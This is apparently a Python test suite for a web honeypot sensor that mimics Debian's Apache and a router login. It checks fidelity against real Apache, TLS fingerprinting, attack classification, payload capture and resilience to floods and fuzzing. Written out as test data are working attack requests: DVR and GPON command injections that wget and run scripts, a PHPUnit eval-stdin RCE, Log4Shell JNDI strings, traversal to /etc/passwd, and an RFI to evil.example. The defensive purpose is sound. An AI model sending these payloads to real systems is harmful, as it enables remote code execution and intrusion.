# SPDX-License-Identifier: MIT
"""The web trap against the real thing: Debian's apache2, curl, sqlmap, nmap, recorded traffic.

One sensor (HTTP + HTTPS, Apache persona) serves most of the module; the real Apache is started
by the differential test on its own loopback port (tests/httputil.py). Every wait is bounded.
"""

from __future__ import annotations

import collections
import contextlib
import hashlib
import os
import random
import re
import socket
import ssl
import subprocess
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from httputil import (
    PROBES,
    SAMPLES,
    TLS_PROBES,
    apache_available,
    comparable,
    parse_answer,
    payload_server,
    raw_request,
    run_real_apache,
    sample_requests,
)
from sensorutil import SensorProc, free_port, need, run_sensor, wait_port
from tlsutil import CHROME_JA3, chrome_hello, old_hello, tls_choice, tls_request

from honeyfarm.sensor.traps.http.answers import outputs
from honeyfarm.sensor.traps.http.classify import Classifier, RequestText, load_rules
from honeyfarm.sensor.traps.http.tlshello import parse_client_hello

USER_RULES = """
[[rule]]
id = "test-backdoor"
name = "A user's own rule"
class = "exploit"
cve = ["CVE-2099-0001"]
path = '^/my-backdoor\\.php$'
"""


class Web:
    def __init__(self, sp: SensorProc, http: int, https: int) -> None:
        self.sp = sp
        self.http = http
        self.https = https

    def requests(self) -> list[dict[str, Any]]:
        return [e for e in self.sp.events() if e["eventid"] == "http.request.received"]

    def log_text(self) -> str:
        return (self.sp.workdir / "sensor.log").read_text(errors="replace")


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Web]:
    work = tmp_path_factory.mktemp("webtrap")
    rules = work / "rules.toml"
    rules.write_text(USER_RULES, encoding="utf-8")
    http, https = free_port(), free_port()
    overrides: dict[str, dict[str, Any]] = {
        "sensor.ssh": {"enabled": False},
        "sensor.telnet": {"enabled": False},
        "sensor.http": {
            "enabled": True,
            "listen": [f"127.0.0.1:{http}"],
            "tls_listen": [f"127.0.0.1:{https}"],
            "server_name": "127.0.0.1",  # what apache2 names itself here (AH00558: "using 127.0.0.1")
            "rules_file": str(rules),
            "idle_timeout": 2.0,
            "request_timeout": 5.0,
            "tls_hello_timeout": 3.0,
        },
        "sensor.persona": {"hostname": "web-01"},
        "sensor.limits": {"max_per_ip": 64, "refused_report_interval": 1.0},
        "sensor.downloads": {"allow_loopback": True, "timeout": 10.0},
    }
    with run_sensor(work, overrides) as sp:
        wait_port(http, proc=sp.proc)
        wait_port(https, proc=sp.proc)
        yield Web(sp, http, https)
        assert sp.proc is not None and sp.proc.poll() is None, "the sensor died"
    log = (work / "sensor.log").read_text(errors="replace")
    assert "Traceback" not in log, log[-3000:]


# --- the differential test against Debian's apache2 --------------------------------------------------


def same_release(answer: bytes) -> bytes:
    """The real server's answer as if it were the persona's Apache release. Debian 12 moves apache2 to
    new upstream point releases in stable; the persona names one of them (``apache.SERVER``), and a
    newer package on the test machine must not fail the comparison of everything else."""
    from honeyfarm.sensor.traps.http.apache import SERVER

    return re.sub(rb"Apache/2\.4\.\d+ \(Debian\)", SERVER.encode(), answer)


def test_answers_match_real_apache(web: Web, tmp_path: Path) -> None:
    if why := apache_available():
        pytest.skip(why)
    diffs: list[str] = []
    with run_real_apache(tmp_path, tls=True) as apache:
        assert apache.tls_port is not None
        cases = [(n, p, raw_request, apache.port, web.http) for n, p in PROBES]
        cases += [(n, p, tls_request, apache.tls_port, web.https) for n, p in TLS_PROBES]
        # Plain HTTP to the HTTPS port: mod_ssl's own 400. TLS 1.0/1.1 clients: OpenSSL 3's alert, byte for byte.
        cases += [("plain on tls", PROBES[0][1], raw_request, apache.tls_port, web.https)]
        for v in (0x0301, 0x0302):
            real_alert = raw_request(apache.tls_port, old_hello(v), timeout=5)
            trap_alert = raw_request(web.https, old_hello(v), timeout=5)
            if real_alert != trap_alert or not real_alert:
                diffs.append(f"TLS {v:#06x} hello: apache {real_alert.hex()} trap {trap_alert.hex()}")
        # What the TLS server chooses: version, cipher, ALPN, for a TLS 1.3 and a TLS 1.2-only client.
        for max_v, alpn in ((ssl.TLSVersion.TLSv1_3, ["h2", "http/1.1"]), (ssl.TLSVersion.TLSv1_2, ["http/1.1"])):
            real_tls, trap_tls = tls_choice(apache.tls_port, max_v, alpn), tls_choice(web.https, max_v, alpn)
            if real_tls != trap_tls:
                diffs.append(f"TLS choice: apache {real_tls} trap {trap_tls}")
        for name, probe, send, real_port, trap_port in cases:
            real = comparable(same_release(send(real_port, probe)).replace(b"%d" % real_port, b"PORT"))
            trap = comparable(send(trap_port, probe).replace(b"%d" % trap_port, b"PORT"))
            if real != trap:
                diffs.append(f"{name}:\n  apache {real[:2]}\n  trap   {trap[:2]}\n  bodies equal: {real[2] == trap[2]}")
    assert not diffs, "\n".join(diffs)


def test_server_header_and_default_page_are_debians(web: Web) -> None:
    a = parse_answer(raw_request(web.http, PROBES[0][1]))
    assert a.header("Server") == "Apache/2.4.71 (Debian)"
    assert (
        a.body == Path("/usr/share/apache2/default-site/index.html").read_bytes()
        or not Path("/usr/share/apache2/default-site/index.html").exists()
    )
    etag = a.header("ETag")
    assert etag is not None and etag.startswith('"29cd-')
    # Last-Modified and ETag stay the same across requests (one install time, kept in state/).
    assert parse_answer(raw_request(web.http, PROBES[0][1])).header("ETag") == etag


# --- curl, TLS and fingerprints ----------------------------------------------------------------------


def _curl(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["curl", "-sS", "--max-time", "20", *args], capture_output=True, text=True, timeout=30)


def test_curl_http_and_https_and_a_stable_tls_fingerprint(web: Web) -> None:
    if why := need("curl"):
        pytest.skip(why)
    r = _curl("-i", f"http://127.0.0.1:{web.http}/")
    assert r.returncode == 0 and "Apache2 Debian Default Page" in r.stdout
    for _ in range(2):
        r = _curl(
            "-k",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            "--resolve",
            f"web-01:{web.https}:127.0.0.1",
            f"https://web-01:{web.https}/x",
        )
        assert r.stdout == "404", r

    def curl_requests(es: list[dict[str, Any]]) -> list[dict[str, Any]]:
        return [
            e
            for e in es
            if e["eventid"] == "http.request.received"
            and e.get("protocol") == "https"
            and str(e.get("client_version")).startswith("curl/")
        ]

    evs = web.sp.wait_for(lambda es: len(curl_requests(es)) >= 2)
    reqs = curl_requests(evs)[-2:]
    sessions = {r["session"] for r in reqs}
    hellos = [e for e in evs if e["eventid"] == "http.tls.clienthello" and e["session"] in sessions]
    assert len(hellos) == 2 and all(h["sni"] == "web-01" for h in hellos)
    # The same client twice: the same fingerprint, on the hello and on each request.
    assert len({(h["ja3_hash"], h["ja4"]) for h in hellos} | {(r["ja3_hash"], r["ja4"]) for r in reqs}) == 1
    h = hellos[-1]
    assert h["ja4"].startswith("t13d") and len(h["ja4"].split("_")) == 3
    assert hashlib.md5(h["ja3"].encode()).hexdigest() == h["ja3_hash"]
    # The certificate: self-signed, CN = the persona's host name, valid a year.
    pem = ssl.get_server_certificate(("127.0.0.1", web.https), timeout=10)
    from cryptography import x509

    cert = x509.load_pem_x509_certificate(pem.encode())
    assert cert.subject.rfc4514_string() == "CN=web-01" == cert.issuer.rfc4514_string()
    days = (cert.not_valid_after_utc - cert.not_valid_before_utc).days
    assert 360 <= days <= 366


def test_ja3_and_ja4_match_a_published_reference() -> None:
    hello = parse_client_hello(chrome_hello())
    assert hello is not None and hello.sni == "tls.browserleaks.com" and hello.alpn == ("h2", "http/1.1")
    assert hello.ja3() == CHROME_JA3
    assert hello.ja3_hash() == "98487aa16281980e7d1120d399efb6a4"
    assert hello.ja4() == "t13d1516h2_8daaf6152771_d8a2da3f94cd"


def test_clienthello_parser_survives_garbage() -> None:
    rng = random.Random(12)
    assert parse_client_hello(b"") is None
    assert parse_client_hello(b"GET / HTTP/1.1\r\n") is None
    for _ in range(3000):
        n = rng.randrange(0, 600)
        blob = bytes([0x16, 3, 1]) + rng.randbytes(n)
        hello = parse_client_hello(blob)
        if hello is not None:  # whatever parsed must fingerprint without error
            hello.ja3()
            hello.ja4()


# --- exploits: classification, answers, downloads -------------------------------------------------------


def test_exploits_are_classified_answered_and_their_payloads_fetched(web: Web, tmp_path: Path) -> None:
    (tmp_path / "x.sh").write_bytes(b"#!/bin/sh\necho pwned\n")
    (tmp_path / "gpon.sh").write_bytes(b"#!/bin/sh\necho gpon\n")
    with payload_server(tmp_path) as p:
        shell = f"GET /shell?cd+/tmp;wget+http://127.0.0.1:{p}/x.sh;sh+x.sh;echo+K1ll3r HTTP/1.1\r\nHost: x\r\n\r\n"
        a = parse_answer(raw_request(web.http, shell.encode()))
        assert a.status_line == "HTTP/1.1 200 OK" and b"K1ll3r" in a.body
        body = f"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`wget+http://127.0.0.1:{p}/gpon.sh`;sh"
        gpon = (
            f"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n"
            f"Content-Type: application/x-www-form-urlencoded\r\n\r\n{body}"
        )
        raw_request(web.http, gpon.encode())
        php = '<?php echo md5("hello");'
        unit = (
            "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nHost: x\r\n"
            f"Content-Length: {len(php)}\r\n\r\n{php}"
        )
        a = parse_answer(raw_request(web.http, unit.encode()))
        assert hashlib.md5(b"hello").hexdigest().encode() in a.body
        raw_request(web.http, b"GET /my-backdoor.php HTTP/1.1\r\nHost: x\r\n\r\n")
        raw_request(web.http, b"GET /?x=${jndi:ldap://127.0.0.1:1/a} HTTP/1.1\r\nHost: x\r\n\r\n")

        def done(es: list[dict[str, Any]]) -> bool:
            got = {e.get("url") for e in es if e["eventid"] == "cowrie.session.file_download"}
            return {f"http://127.0.0.1:{p}/x.sh", f"http://127.0.0.1:{p}/gpon.sh"} <= got

        evs = web.sp.wait_for(done, timeout=30)
    dl = next(e for e in evs if e["eventid"] == "cowrie.session.file_download" and str(e["url"]).endswith("x.sh"))
    assert dl["trap"] == "http" and dl["sha256"] == hashlib.sha256(b"#!/bin/sh\necho pwned\n").hexdigest()
    by_path = {e.get("path"): e for e in evs if e["eventid"] == "http.request.received"}
    assert dl["request"] == by_path["/shell"]["request"]
    assert "mvpower-dvr-shell" in by_path["/shell"]["rule"] and "cmd_injection" in by_path["/shell"]["attack"]
    assert {"CVE-2018-10561", "CVE-2018-10562"} <= set(by_path["/GponForm/diag_Form"]["cve"])
    assert "CVE-2017-9841" in by_path["/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"]["cve"]
    assert "CVE-2099-0001" in by_path["/my-backdoor.php"]["cve"]  # the user's rules file is merged in
    jndi = next(e for e in evs if "jndi" in str(e.get("url")))
    assert "log4shell" in jndi["attack"] and "CVE-2021-44228" in jndi["cve"]


def test_classifier_and_answers_units() -> None:
    c = Classifier(load_rules())
    assert len(c.rules) >= 40

    def classes(path: str, query: str = "", body: bytes = b"", ua: str = "") -> list[str]:
        return c.classify(RequestText.of("GET", path, query, [("User-Agent", ua)], body)).attack

    assert "traversal" in classes("/index.php", "page=../../../../etc/passwd")
    assert "rfi" in classes("/index.php", "page=http://evil.example/shell.txt?")
    assert "sqli" in classes("/index.php", "id=1%20UNION%20ALL%20SELECT%20NULL,NULL--")
    assert "xss" in classes("/search", "q=<script>alert(1)</script>")
    assert "log4shell" in classes("/", "", ua="${${lower:j}ndi:ldap://x/a}")
    assert "scanner" in classes("/", ua="Mozilla/5.00 (Nikto/2.1.6)")
    assert "crawler" in classes("/", ua="Mozilla/5.0 (compatible; Googlebot/2.1)")
    assert classes("/", ua="Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0") == []
    assert outputs("cmd=expr 123 + 456") == ["579"]
    # Worst cases for backtracking: each classification of 64 KiB of hostile text stays fast.
    for evil in (b"union/*" * 9000, b"<img " * 13000, b"() {;" * 13000, b"${" * 30000, b"'" * 60000, b"a" * 65536):
        start = time.monotonic()
        rt = RequestText.of("POST", "/" + evil[:4000].decode(), evil.decode(), [("X", evil[:8000].decode())], evil)
        c.classify(rt)
        outputs(rt.everything())
        assert time.monotonic() - start < 2.0, evil[:20]
    assert outputs("/bin/busybox ECCHI") == ["ECCHI: applet not found"]


# --- real attack tools and recorded traffic ------------------------------------------------------------


def test_sqlmap_requests_are_classified_as_sqli(web: Web, tmp_path: Path) -> None:
    if why := need("sqlmap"):
        pytest.skip(why)
    before = len(web.requests())
    url = f"http://127.0.0.1:{web.http}/index.php?id=1"
    cmd = [
        "sqlmap",
        "--batch",
        "--level",
        "1",
        "--risk",
        "1",
        "--flush-session",
        "--output-dir",
        str(tmp_path / "out"),
        "--ignore-code",  # Apache's default site has no /index.php: without this sqlmap stops at the 404
        "404",
        "-u",
        url,
    ]
    env = {**os.environ, "HOME": str(tmp_path)}
    sent = 0
    with contextlib.suppress(subprocess.TimeoutExpired):
        r = subprocess.run([*cmd, "--timeout", "5", "--retries", "0"], capture_output=True, timeout=120, env=env)
        sent = r.stdout.count(b"404 (Not Found) - ")  # sqlmap's own count of the answers it got
        print(r.stdout.decode(errors="replace")[-600:])
    # The spool is fsynced every 0.1 s: wait (bounded) until the events of every request are there.
    with contextlib.suppress(AssertionError):
        web.sp.wait_for(lambda es: sum(1 for e in es if e["eventid"] == "http.request.received") >= before + 60, 10)
    reqs = web.requests()[before:]
    sqli = [e for e in reqs if "sqli" in (e.get("attack") or [])]
    print(f"sqlmap: {len(reqs)} requests, {len(sqli)} classified sqli")
    assert sent and len(reqs) >= 60 and len(sqli) >= 0.8 * len(reqs)
    assert any("sqlmap" in (e.get("attack") or []) or "scanner" in (e.get("attack") or []) for e in reqs)


def test_recorded_requests_replay_without_errors(web: Web) -> None:
    if not SAMPLES.exists():
        pytest.skip(f"{SAMPLES} is absent (the shared samples are not part of this repository)")
    reqs = sample_requests()
    assert len(reqs) > 2000
    before = len(web.requests())
    statuses: collections.Counter[int] = collections.Counter()
    for method, target, ua in reqs:
        t = quote(target, safe="/?&=%:;,+@!$'()*~[]-._#")
        if not t.startswith("/") and not t.startswith("http"):
            t = "/" + t
        raw = f"{method} {t} HTTP/1.1\r\nHost: x\r\nUser-Agent: {ua}\r\nConnection: close\r\n\r\n"
        a = parse_answer(raw_request(web.http, raw.encode("latin-1", "replace"), timeout=5))
        statuses[int(a.status_line.split()[1])] += 1
    evs = web.sp.wait_for(
        lambda es: sum(1 for e in es if e["eventid"] == "http.request.received") >= before + len(reqs)
    )
    got = [e for e in evs if e["eventid"] == "http.request.received"][before:]
    attacks: collections.Counter[str] = collections.Counter(a for e in got for a in (e.get("attack") or ["none"]))
    rules: collections.Counter[str] = collections.Counter(r for e in got for r in (e.get("rule") or []))
    print(
        f"replayed {len(reqs)}: statuses {dict(statuses)}; classes {dict(attacks)}; rules {dict(rules.most_common(12))}"
    )
    assert not any(s >= 500 and s != 501 for s in statuses), statuses
    assert "Traceback" not in web.log_text() and "honeyfarm sensor: http:" not in web.log_text()
    assert attacks["scanner"] + attacks["sqli"] + attacks["traversal"] + attacks["probe"] > 0


def test_nmap_names_it_apache_httpd(web: Web) -> None:
    if why := need("nmap"):
        pytest.skip(why)
    r = subprocess.run(
        ["nmap", "-sV", "-Pn", "-n", "--version-light", "-p", f"{web.http},{web.https}", "127.0.0.1"],
        capture_output=True,
        text=True,
        timeout=150,
    )
    print(r.stdout)
    lines = {int(ln.split("/")[0]): ln for ln in r.stdout.splitlines() if "/tcp" in ln}
    assert "http" in lines[web.http] and "Apache httpd 2.4.71 ((Debian))" in lines[web.http], r.stdout
    # The HTTPS port as nmap names the real one (measured): the 400 of plain HTTP to an SSL port.
    assert "Apache httpd 2.4.71" in lines[web.https], r.stdout


# --- hostile clients --------------------------------------------------------------------------------


def test_fuzz_slowloris_bogus_tls_and_a_flood_leave_it_up(web: Web) -> None:
    rng = random.Random(7)
    blobs: list[tuple[int, bytes]] = []
    for i in range(150):
        kind = i % 5
        if kind == 0:
            data = rng.randbytes(rng.randrange(1, 4000))
        elif kind == 1:
            data = b"GET /" + rng.randbytes(rng.randrange(1, 20000)) + b" HTTP/1.1\r\n\r\n"
        elif kind == 2:
            data = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999\r\n\r\n" + rng.randbytes(500)
        elif kind == 3:
            data = b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" + rng.randbytes(300)
        else:
            data = b"GET / HTTP/1.1\r\n" + b"".join(rng.randbytes(rng.randrange(1, 60)) + b"\r\n" for _ in range(30))
        blobs.append((web.http, data))
    for _ in range(60):  # bogus and truncated ClientHellos
        blobs.append((web.https, bytes([0x16, 3, 1]) + rng.randbytes(rng.randrange(0, 400))))

    def send(item: tuple[int, bytes]) -> None:
        with contextlib.suppress(OSError):
            raw_request(item[0], item[1], timeout=2)

    with ThreadPoolExecutor(max_workers=40) as pool:
        list(pool.map(send, blobs))
    # Slow loris: a header every 0.5 s never completes a request; the trap hangs up (idle_timeout 2 s).
    socks = [socket.create_connection(("127.0.0.1", web.http), timeout=10) for _ in range(20)]
    start = time.monotonic()
    closed = 0
    for s in socks:
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
    while closed < len(socks) and time.monotonic() - start < 15:
        time.sleep(0.5)
        closed = 0
        for s in socks:
            try:
                s.sendall(b"X-a: b\r\n")
                s.settimeout(0.01)
                if s.recv(1) == b"":
                    closed += 1
            except (TimeoutError, BlockingIOError):
                pass
            except OSError:
                closed += 1
    for s in socks:
        s.close()
    assert closed == len(socks) and time.monotonic() - start < 15
    # A flood: 400 connections at once, most beyond max_per_ip (64); the sensor stays up and answers.
    flood = []
    for _ in range(400):
        with contextlib.suppress(OSError):
            flood.append(socket.create_connection(("127.0.0.1", web.http), timeout=5))
    for s in flood:
        with contextlib.suppress(OSError):
            s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
    # Held open a moment, so that the sensor has accepted them while they are all open (on an idle machine the
    # client could otherwise close them before the sensor saw them side by side, and nothing was over the cap).
    time.sleep(0.5)
    for s in flood:
        s.close()
    time.sleep(1)
    a = parse_answer(raw_request(web.http, PROBES[0][1], timeout=10))
    assert a.status_line == "HTTP/1.1 200 OK"
    # The connections over the per-address cap were refused before any parsing, and counted.
    evs = web.sp.wait_for(lambda evs: any(e["eventid"] == "honeyfarm.sensor.refused" for e in evs), timeout=10)
    refused = [e for e in evs if e["eventid"] == "honeyfarm.sensor.refused"]
    assert sum(e["reasons"].get("max_per_ip", 0) for e in refused) > 0, refused
    assert web.sp.proc is not None
    rss_kb = int(
        next(
            ln.split()[1]
            for ln in Path(f"/proc/{web.sp.proc.pid}/status").read_text().splitlines()
            if ln.startswith("VmRSS")
        )
    )
    print(f"sensor RSS after fuzz and flood: {rss_kb // 1024} MB")
    assert rss_kb < 256 * 1024


# --- the router persona -----------------------------------------------------------------------------------


def test_router_persona_logs_posted_credentials(tmp_path: Path) -> None:
    port = free_port()
    overrides: dict[str, dict[str, Any]] = {
        "sensor.ssh": {"enabled": False},
        "sensor.telnet": {"enabled": False},
        "sensor.http": {"enabled": True, "listen": [f"127.0.0.1:{port}"], "persona": "router"},
    }
    with run_sensor(tmp_path, overrides) as sp:
        wait_port(port, proc=sp.proc)
        a = parse_answer(raw_request(port, b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"))
        assert a.header("Server") == "lighttpd/1.4.59" and b"Router Login" in a.body and b'action="/login"' in a.body
        form = b"username=admin&password=hunter2"
        raw_request(port, b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s" % (len(form), form))
        evs = sp.wait_for(lambda es: any(e["eventid"] == "http.login.attempt" for e in es))
    att = next(e for e in evs if e["eventid"] == "http.login.attempt")
    assert att["username"] == "admin" and att["password"] == "hunter2"


def test_the_rule_prefilter_finds_exactly_the_rules_each_rule_finds_alone() -> None:
    """The classifier tries only the rules whose field's combined pattern matched (speed); the
    verdict must equal trying every rule, on requests that hit each bundled rule and on plain ones."""
    from honeyfarm.sensor.traps.http.classify import Classifier, RequestText, _rule_matches, load_rules

    rules = load_rules()
    clf = Classifier(rules)
    samples = [
        ("GET", "/", "", b""),
        ("GET", "/index.html", "a=1", b""),
        ("GET", "/shell", "cd+/tmp;wget+http://x/a", b""),
        ("POST", "/GponForm/diag_Form", "images/", b"XWebPageName=diag&diag_action=ping&dest_host=`wget+x`"),
        ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", b'<?php echo md5("x");'),
        ("GET", "/.env", "", b""),
        ("GET", "/", "x=${jndi:ldap://a/b}", b""),
        ("POST", "/HNAP1/", "", b""),
        ("GET", "/cgi-bin/luci/;stok=/locale", "form=country&operation=write&country=$(id)", b""),
    ]
    hits = set()
    for method, path, query, body in samples:
        rt = RequestText.of(method, path, query, [("User-Agent", "x"), ("Host", "h")], body)
        everything = rt.everything()
        alone = [r.id for r in rules if _rule_matches(r, rt, everything)]
        assert clf.classify(rt).rule == alone, (path, query)
        hits.update(alone)
    assert len(hits) >= 5  # the samples do hit rules, so the comparison means something
